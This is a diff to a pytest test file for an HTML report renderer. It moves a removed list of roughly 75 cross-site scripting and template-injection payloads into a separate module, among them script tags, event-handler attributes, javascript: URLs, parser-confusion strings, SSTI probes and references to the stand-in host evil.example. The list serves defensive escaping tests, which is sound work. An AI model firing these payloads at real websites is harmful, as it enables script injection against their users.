@@ -8,6 +8,7 @@ from enum import Enum
 import pytest
 from lxml import html
 
+from payloads import WRITTEN as PAYLOADS
 from sayso.model import LedgerView
 from sayso.report.page import render
 from sayso.report.words import visible
@@ -15,81 +16,6 @@ from sayso.report.words import visible
 from .episode import episode
 
 DATES = frozenset({"published_at", "said_on", "published_by"})
-
-PAYLOADS = (
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\x0ctype=x>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    '"><img src=x onerror=alert(1)>',
-    "'><img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "` onload=alert(1) `",
-    "x onclick=alert(1) y",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x>",
-    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    "<svg><use href=data:image/svg+xml,x#x></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "</title><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</svg></blockquote></main></body><script>alert(1)</script>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<form action=javascript:alert(1)><button>x</button></form>",
-    "<a href=javascript:alert(1)>x</a>",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "\x01javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "https://a.example/\"onmouseover='alert(1)'",
-    "https://a.example/<script>alert(1)</script>",
-    "//evil.example/%0aonload=alert(1)",
-    "{{7*7}}",
-    "{{ config.items() }}",
-    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
-    "{# comment #}",
-    "${7*7}#{7*7}<%= 7*7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u2028<script>alert(1)</script>\u2029",
-    "\ufeff<script>alert(1)</script>",
-    "\x00<script>alert(1)</script>",
-    "\ud83d<script>alert(1)</script>",
-    "\u202e<script>alert(1)</script>\u2066",
-    "＜script＞alert(1)＜/script＞",
-    "<!--><script>alert(1)</script>-->",
-    "--><script>alert(1)</script>",
-    "]]><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<p id=main><a name=main>",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "<x/onpointerenter=alert(1)>",
-)
 
 
 def poisoned(view: LedgerView, payload: str, *, dates: bool) -> LedgerView:
